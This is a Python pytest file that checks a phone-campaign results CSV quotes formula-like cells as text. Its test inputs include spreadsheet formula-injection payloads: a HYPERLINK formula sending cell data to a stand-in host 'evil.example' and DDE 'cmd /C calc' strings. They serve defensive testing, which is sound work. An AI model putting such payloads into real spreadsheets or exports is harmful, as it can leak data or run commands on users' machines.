"""The campaign's results file: cells a spreadsheet would run as formulas, and one run at a
time per results file."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from bridge.campaign import Result, ResultsFile, read_contacts

# --- cells a spreadsheet would take for formulas --------------------------------------------


@pytest.mark.parametrize(
    ("phone", "cell"),
    [
        # A valid E.164 number stays as it is: `+` then digits only, nothing to run.
        ("+14155550101", "+14155550101"),
        (
            '=HYPERLINK("http://evil.example/?"&A1,"click")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
        ),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("+44 20 bad", "'+44 20 bad"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\uff1d1+1", "'\uff1d1+1"),  # a full-width =, which some spreadsheets accept too
        ("'=1", "'=1"),  # already text: not quoted twice
        ("4155550103", "4155550103"),
        ("call me", "call me"),
    ],
)
def test_formula_cells_are_written_as_text(tmp_path: Path, phone: str, cell: str) -> None:
    contacts = tmp_path / "contacts.csv"
    quoted = phone.replace('"', '""')
    contacts.write_text(f'phone,name\n"{quoted}",Ada\n', encoding="utf-8")
    found = read_contacts(contacts)
    ledger = ResultsFile(tmp_path / "results.csv")
    ledger.open()
    for result in [*found.invalid, *(Result(c.row, c.number, "placed") for c in found.contacts)]:
        ledger.append(result)
    ledger.close()
    journal = list(csv.reader(io.StringIO(ledger.path.read_text(encoding="utf-8"), newline="")))
    ledger.rewrite([*found.invalid, *(Result(c.row, c.number, "placed") for c in found.contacts)])
    final = list(csv.reader(io.StringIO(ledger.path.read_text(encoding="utf-8"), newline="")))
    assert journal[1][1] == final[1][1] == cell


@pytest.mark.parametrize(
    "cells",
    [
        Result(2, "+14155550101", "failed", error="=1+1"),
        Result(2, "+14155550101", "placed", call_sid="@x", conversation_id="-1"),
        Result(2, "\tx", "invalid", error="\r=1"),
    ],
)
def test_no_cell_starts_a_formula(tmp_path: Path, cells: Result) -> None:
    ledger = ResultsFile(tmp_path / "results.csv")
    ledger.rewrite([cells])
    rows = list(csv.reader(io.StringIO(ledger.path.read_text(encoding="utf-8"), newline="")))
    for value in rows[1]:
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")) or value == "+14155550101"


def test_placed_rows_are_read_back_unchanged(tmp_path: Path) -> None:
    ledger = ResultsFile(tmp_path / "results.csv")
    ledger.rewrite([Result(2, "+14155550101", "placed", call_sid="CA1", conversation_id="c")])
    assert ResultsFile(ledger.path).placed() == {
        "+14155550101": Result(2, "+14155550101", "placed", call_sid="CA1", conversation_id="c")
    }
